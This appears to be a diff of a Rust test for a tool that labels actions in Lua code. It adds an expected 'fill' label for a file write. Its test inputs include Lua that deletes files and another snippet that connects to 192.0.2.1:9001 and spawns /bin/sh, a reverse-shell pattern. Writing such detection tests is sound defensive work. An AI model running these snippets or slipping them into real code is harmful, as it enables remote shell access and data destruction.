@@ -16,7 +16,7 @@ fn acts_and_mentions() {
                 "local p = io.popen('ls'); os.remove('/x'); os.rename('a', 'b')",
                 &["shell ls", "delete /x", "move a | b"],
             ),
-            ("local f = io.open('/x', 'w') f:write('y') f:close()", &["write /x"]),
+            ("local f = io.open('/x', 'w') f:write('y') f:close()", &["write /x", "fill /x : y"]),
             (
                 "local t = require('socket').tcp(); t:connect('192.0.2.1', 9001); io.popen('/bin/sh')",
                 &["connect 192.0.2.1:9001", "shell /bin/sh"],
